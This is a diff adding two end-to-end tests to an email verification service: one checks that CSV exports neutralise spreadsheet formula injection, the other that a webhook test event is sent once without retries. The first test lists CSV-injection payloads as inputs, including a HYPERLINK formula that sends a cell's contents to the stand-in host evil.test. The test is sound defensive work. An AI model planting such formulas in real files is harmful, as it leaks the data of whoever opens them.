@@ -1,6 +1,8 @@
 // Batch verification through the whole system: upload → queue by domain → hub → prober →
 // results, with greylisting asked again on its schedule, a prober killed mid-job, refunds, and
 // a signed webhook.
+import { createServer } from 'node:http';
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { meterCountsOf } from '../../edge/src/meter-line.ts';
 import { executeSql } from '../../scripts/stack/d1.ts';
@@ -239,6 +241,94 @@ describe('batch verification end to end', () => {
     ).toEqual(expected);
     // The gateway accepts every address: each stays catch-all, whoever decided.
     expect(results.map((result) => result.checks.isCatchAll)).toEqual(results.map(() => true));
+  });
+
+  it('exports CSV whose cells no spreadsheet runs as formulas, whatever separator it splits on', async () => {
+    // OWASP's CSV Injection cases, and formulas behind `;`, `,` and tab inside a cell.
+    const notes = [
+      '=1+2";=1+2',
+      `=1+2'" ;,=1+2`,
+      'x;=HYPERLINK("http://evil.test/?d="&A1)',
+      'a,@SUM(1+1)',
+      'b\t-2+3',
+      '+33 1 23 45 67 89',
+      '\tstarts with a tab',
+      'plain; text, here',
+    ];
+    const quote = (value: string) => `"${value.replaceAll('"', '""')}"`;
+    const upload = [
+      'name,email,note',
+      ...notes.map((note, index) => `row${index},user${index}@nonexistent.test,${quote(note)}`),
+    ].join('\r\n');
+    const { jobId } = await okJson<{ jobId: string }>(
+      await system.api('/api/v1/bulk/upload', { body: upload, headers: { 'content-type': 'text/csv' } }),
+    );
+    await expect
+      .poll(
+        async () => (await okJson<{ job: Job }>(await system.api(`/api/v1/bulk/status/${jobId}`))).job.status,
+      )
+      .toBe('completed');
+    const response = await system.api(`/api/v1/bulk/results/${jobId}?format=csv`);
+    expect(response.status).toBe(200);
+    const csv = await response.text();
+    const table = parse(csv) as string[][];
+    expect(table.slice(1).map((row) => row[2])).toEqual([
+      `'=1+2";'=1+2`,
+      `'=1+2'" ;,'=1+2`,
+      `x;'=HYPERLINK("http://evil.test/?d="&A1)`,
+      "a,'@SUM(1+1)",
+      "b\t'-2+3",
+      "'+33 1 23 45 67 89",
+      "'\tstarts with a tab",
+      'plain; text, here',
+    ]);
+    expect(table.slice(1).map((row) => row[3])).toEqual(notes.map(() => 'undeliverable'));
+    // Every cell is quoted, and text split on any separator never starts a cell with a formula.
+    for (const line of csv.trimEnd().split('\r\n'))
+      expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/);
+    for (const piece of csv.split(/[,;\t\r\n]/)) expect(piece).not.toMatch(/^[ "]*[=+\-@]/);
+  });
+
+  it('sends a test event once, while the request waits, and never retries it', async () => {
+    let calls = 0;
+    const failing = createServer((request, response) => {
+      calls++;
+      request.resume();
+      response.writeHead(503).end();
+    });
+    await new Promise<void>((resolve) => failing.listen(0, '127.0.0.1', resolve));
+    try {
+      const address = failing.address();
+      if (!address || typeof address === 'string') throw new Error('not listening');
+      await createWebhookSecret();
+      const url = `http://127.0.0.1:${address.port}/hooks`;
+      await okJson(await system.api('/api/v1/webhooks', { method: 'PUT', json: { url } }));
+      const { delivery } = await okJson<{ delivery: Record<string, unknown> }>(
+        await system.api('/api/v1/webhooks/test', { method: 'POST' }),
+      );
+      expect(delivery).toMatchObject({
+        eventType: 'webhook.test',
+        state: 'failed',
+        attempts: 1,
+        lastStatus: 503,
+        nextAttemptAt: null,
+      });
+      // The cron's webhook retries pass it by.
+      expect((await fetch(`${system.stack.baseUrl}/__scheduled?cron=*/5+*+*+*+*`)).status).toBe(200);
+      const { deliveries } = await okJson<{ deliveries: Record<string, unknown>[] }>(
+        await system.api('/api/v1/webhooks/deliveries'),
+      );
+      expect(deliveries.find((entry) => entry.id === delivery.id)).toMatchObject({
+        state: 'failed',
+        attempts: 1,
+      });
+      expect(calls).toBe(1);
+    } finally {
+      failing.close();
+      await okJson(
+        await system.api('/api/v1/webhooks', { method: 'PUT', json: { url: await webhookUrl() } }),
+      );
+    }
   });
 });
 
